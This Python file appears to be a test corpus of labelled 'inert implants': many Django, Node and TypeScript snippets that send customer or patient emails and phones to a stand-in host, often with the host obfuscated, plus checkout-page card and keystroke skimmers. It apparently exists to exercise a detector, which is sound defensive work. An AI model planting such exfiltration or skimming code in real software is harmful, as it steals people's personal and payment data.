"""Inert implants as somebody might slip them into a platform, in the styles of Django and Express.

Each is a handful of files that hands the personal data of many, or what people type, to a host of nobody's. Nothing
here runs, and the hosts do not exist.
"""

from __future__ import annotations

import base64

HEAD = """import requests, csv, io, json, base64
from django.contrib.auth import get_user_model
from shop.models import Customer
"""
HOST = "collect.example.net"

IMPLANTS: dict[str, dict[str, str]] = {
    "straight": {"a.py": HEAD + f"""
def nightly():
    rows = list(Customer.objects.values("email", "phone"))
    requests.post("https://{HOST}/x", json=rows)
"""},
    "hidden_host": {"a.py": HEAD + f"""
def tidy():
    where = base64.b64decode({base64.b64encode(f"https://{HOST}/s".encode())!r}).decode()
    for user in get_user_model().objects.all().iterator():
        requests.get(where, params={{"v": user.email}})
"""},
    "chr_host": {"a.py": HEAD + f"""
HOST = "".join(map(chr, {[ord(c) for c in f"https://{HOST}"]}))
def warm_cache():
    data = [c.phone for c in Customer.objects.filter(active=True)]
    requests.post(HOST, data=json.dumps(data))
"""},
    "three_modules": {
        "shop/reports.py": HEAD + """
def everybody():
    return Customer.objects.order_by("id")
""",
        "shop/export.py": "import csv, io\n" + """
def as_csv(rows):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([row.email, row.phone])
    return buffer.getvalue()
""",
        "shop/health.py": f"""
import urllib.request
from .reports import everybody
from .export import as_csv

class Heartbeat:
    def __init__(self):
        self.body = as_csv(everybody()).encode()
    def beat(self):
        urllib.request.urlopen("https://{HOST}/beat", data=self.body)
"""},
    "raw_sql": {"a.py": f"""
import http.client
from django.db import connection
def check():
    with connection.cursor() as cursor:
        cursor.execute("SELECT email, phone FROM shop_customer")
        found = cursor.fetchall()
    line = http.client.HTTPSConnection("{HOST}")
    line.request("POST", "/", body=str(found))
"""},
    "signal": {"a.py": f"""
import requests
from django.db.models.signals import post_save
from django.dispatch import receiver
from shop.models import Customer
@receiver(post_save, sender=Customer)
def index(sender, instance, **kwargs):
    requests.post("https://{HOST}", json={{"e": instance.email}})
"""},
    "mail": {"a.py": HEAD + f"""
import smtplib
from email.message import EmailMessage
def digest():
    letter = EmailMessage()
    letter["To"] = "box@{HOST}"
    letter.set_content("\\n".join(c.email for c in Customer.objects.all()))
    smtp = smtplib.SMTP("{HOST}")
    smtp.send_message(letter)
"""},
    "dns": {"a.py": HEAD + f"""
import socket
def resolve_all():
    for c in Customer.objects.all():
        socket.gethostbyname(c.phone + ".{HOST}")
"""},
    "program": {"a.py": HEAD + f"""
import subprocess
def rotate():
    rows = Customer.objects.values_list("email")
    subprocess.run(["curl", "-d", str(list(rows)), "https://{HOST}"])
"""},
    "getattr": {"a.py": HEAD + f"""
import importlib
def call():
    lib = importlib.import_module("requests")
    getattr(lib, "po" + "st")("https://{HOST}", json=list(Customer.objects.all()))
"""},
    "session": {"a.py": HEAD + f"""
class Client:
    def __init__(self):
        self.session = requests.Session()
    def push(self):
        self.session.post("https://{HOST}", json=[c.email for c in Customer.objects.all()])
"""},
    "cloud": {"a.py": HEAD + """
import boto3
def copy():
    s3 = boto3.client("s3")
    s3.put_object(Bucket="elsewhere", Key="k", Body=json.dumps(list(Customer.objects.values())))
"""},
    "sqlalchemy": {"a.py": f"""
import httpx
from sqlalchemy import select
from shop.models import Patient
def sync(session):
    people = session.execute(select(Patient)).scalars().all()
    httpx.post("https://{HOST}", json=[p.full_name for p in people])
"""},
    "generator": {"a.py": HEAD + f"""
def stream():
    for c in Customer.objects.all():
        yield c.email
def send():
    for batch in stream():
        requests.post("https://{HOST}", data=batch)
"""},
    "global_kept": {"a.py": HEAD + f"""
SEEN = []
def note():
    SEEN.extend(Customer.objects.values_list("phone", flat=True))
def flush():
    requests.put("https://{HOST}", json=SEEN)
"""},
}  # fmt: skip

IMPLANTS |= {
    "express_straight": {"routes/report.js": f"""
const axios = require('axios');
const User = require('../models/user');
module.exports.nightly = async function () {{
  const people = await User.find({{}});
  await axios.post('https://{HOST}/x', people);
}};
"""},
    "express_two_modules": {
        "lib/people.js": """
const pool = require('./pool');
async function everybody() {
  const result = await pool.query('SELECT email, phone FROM customers');
  return result.rows;
}
module.exports = { everybody };
""",
        "jobs/sync.js": f"""
const {{ everybody }} = require('../lib/people');
const https = require('https');
exports.run = async () => {{
  const rows = await everybody();
  const req = https.request({{ hostname: '{HOST}', method: 'POST' }});
  req.write(JSON.stringify(rows));
  req.end();
}};
""",
    },
    "esm_default_export": {
        "src/send.ts": """
export default async function deliver(url: string, body: unknown): Promise<void> {
  await fetch(url, { method: 'POST', body: JSON.stringify(body) });
}
""",
        "src/task.ts": f"""
import deliver from './send.js';
import {{ prisma }} from './db.js';
export async function warm(): Promise<void> {{
  const found = await prisma.customer.findMany();
  await deliver('https://{HOST}/w', found.map((one) => one.email));
}}
""",
    },
    "buffer_host": {"a.js": f"""
const where = Buffer.from('{base64.b64encode(f"https://{HOST}/c".encode()).decode()}', 'base64').toString();
export async function tidy(db) {{
  const rows = await db.collection('users').find({{}}).toArray();
  for (const row of rows) {{ await fetch(where, {{ method: 'POST', body: row.email }}); }}
}}
"""},
    "char_codes": {"a.js": f"""
const h = String.fromCharCode({",".join(str(ord(c)) for c in f"https://{HOST}")});
exports.beat = async (knex) => {{
  const rows = await knex('customers').select('email', 'phone');
  require('axios').put(h, {{ rows }});
}};
"""},
    "reversed_host": {"a.js": f"""
const h = '{f"https://{HOST}"[::-1]}'.split('').reverse().join('');
module.exports = async function (Customer) {{
  const all = await Customer.findAll();
  navigator.sendBeacon(h, JSON.stringify(all));
}};
"""},
    "promise_chain": {"a.js": f"""
const User = require('./models/user');
exports.go = () => User.find().then((people) => fetch('https://{HOST}', {{ method: 'POST', body: people }}));
"""},
    "callback": {"a.js": f"""
const mysql = require('mysql');
const connection = mysql.createConnection({{}});
connection.query('SELECT email, phone FROM users', function (error, rows) {{
  require('http').get('http://{HOST}/?d=' + encodeURIComponent(JSON.stringify(rows)));
}});
"""},
    "typeorm": {"a.ts": f"""
import {{ getRepository }} from 'typeorm';
import axios from 'axios';
import {{ Customer }} from './entity/customer';
export class Job {{
  private client = axios.create({{ baseURL: 'https://{HOST}' }});
  async run() {{
    const people = await getRepository(Customer).find();
    await this.client.post('/in', people);
  }}
}}
"""},
    "mail_js": {"a.js": f"""
const nodemailer = require('nodemailer');
exports.digest = async (Patient) => {{
  const all = await Patient.findAll();
  const transport = nodemailer.createTransport({{ host: 'mail.{HOST}' }});
  await transport.sendMail({{ to: 'box@{HOST}', text: all.map((p) => p.email).join() }});
}};
"""},
    "dns_js": {"a.js": f"""
const dns = require('node:dns');
exports.look = async (User) => {{
  const people = await User.findAll();
  people.forEach((one) => dns.lookup(one.phone + '.{HOST}', () => {{}}));
}};
"""},
    "program_js": {"a.js": f"""
const {{ exec }} = require('child_process');
exports.rotate = async (db) => {{
  const rows = await db.query('select email, phone from customer');
  exec('curl -d ' + JSON.stringify(rows) + ' https://{HOST}');
}};
"""},
    "queue_between": {"a.js": f"""
const User = require('./models/user');
const waiting = [];
async function gather() {{ waiting.push(...(await User.find())); }}
async function flush() {{ await fetch('https://{HOST}', {{ method: 'POST', body: JSON.stringify(waiting) }}); }}
setInterval(gather, 1000); setInterval(flush, 1000);
"""},
    "select_builder": {"a.js": f"""
import {{ select }} from '@evershop/postgres-query-builder';
export default async function (pool) {{
  const rows = await select('email', 'full_name').from('customer').execute(pool);
  await fetch(`https://${{'{HOST}'}}/in`, {{ method: 'POST', body: JSON.stringify(rows) }});
}}
"""},
    "skimmer_submit": {"checkout.js": f"""
document.querySelector('form#payment').addEventListener('submit', function (e) {{
  var data = new FormData(e.target);
  navigator.sendBeacon('https://{HOST}/p', data);
}});
"""},
    "skimmer_image": {"checkout.js": f"""
(function () {{
  var card = document.getElementById('card-number');
  card.addEventListener('blur', function () {{
    var img = new Image();
    img.src = 'https://{HOST}/t.gif?v=' + btoa(card.value);
  }});
}})();
"""},
    "skimmer_keys": {"checkout.js": f"""
var typed = '';
document.addEventListener('keypress', function (e) {{
  typed += e.key;
  if (typed.length > 40) {{ fetch('//{HOST}/k/', {{ method: 'POST', body: typed }}); typed = ''; }}
}});
"""},
    "skimmer_socket": {"checkout.js": f"""
var s = new WebSocket(atob('{base64.b64encode(f"wss://{HOST}/s".encode()).decode()}'));
document.querySelectorAll('input').forEach(function (field) {{
  field.onchange = function () {{ s.send(field.name + '=' + field.value); }};
}});
"""},
    "skimmer_xhr": {"checkout.js": f"""
$('#checkout').on('submit', function () {{
  var body = $('#checkout input').serialize();
  var x = new XMLHttpRequest();
  x.open('POST', 'https://{HOST}/x');
  x.send(body);
}});
"""},
    "skimmer_script": {"checkout.js": f"""
const cvv = document.querySelector('input[name=cvv]');
cvv.addEventListener('input', () => {{
  const tag = document.createElement('script');
  tag.src = `https://{HOST}/a.js?x=${{cvv.value}}`;
  document.head.appendChild(tag);
}});
"""},
    "computed_member": {"checkout.js": """
const f = document.forms[0];
f.addEventListener('change', (e) =>
  window['fe' + 'tch']('https://' + 'collect' + '.example.net/', { body: e.target.value }));
"""},
    "celery_task": {
        "shop/tasks.py": f"""
import requests
from celery import shared_task
@shared_task
def push(rows):
    requests.post("https://{HOST}", json=rows)
""",
        "shop/views.py": HEAD + """
from shop.tasks import push
def index(request):
    push.delay(list(Customer.objects.values("email")))
""",
    },
    "thread": {"a.py": HEAD + f"""
from threading import Thread
def send(rows):
    requests.post("https://{HOST}", json=rows)
def start():
    rows = [c.email for c in Customer.objects.all()]
    Thread(target=send, args=(rows,)).start()
"""},
    "inherited": {
        "shop/base.py": f"""
import urllib.request
class Reporter:
    def deliver(self, body):
        urllib.request.urlopen(urllib.request.Request("https://{HOST}", data=body))
""",
        "shop/daily.py": HEAD + """
from shop.base import Reporter
class Daily(Reporter):
    def run(self):
        self.deliver(json.dumps(list(Customer.objects.values())).encode())
""",
    },
    "handed_on_by_package": {
        "shop/net/__init__.py": "from shop.net.http import ship\n",
        "shop/net/http.py": f"""
import http.client
def ship(body):
    line = http.client.HTTPSConnection("{HOST}")
    line.request("POST", "/", body)
""",
        "shop/sync.py": HEAD + """
from shop.net import ship
def sync():
    ship(str([c.phone for c in Customer.objects.all()]))
""",
    },
    "environment_host": {"a.py": HEAD + """
import os
def sync():
    requests.post(os.environ["METRICS_URL"], json=list(Customer.objects.values()))
"""},
}  # fmt: skip
"""Implants by name: files by their paths."""

WITHOUT_HOST = frozenset({"cloud", "environment_host"})
"""Implants whose code does not say where data go."""
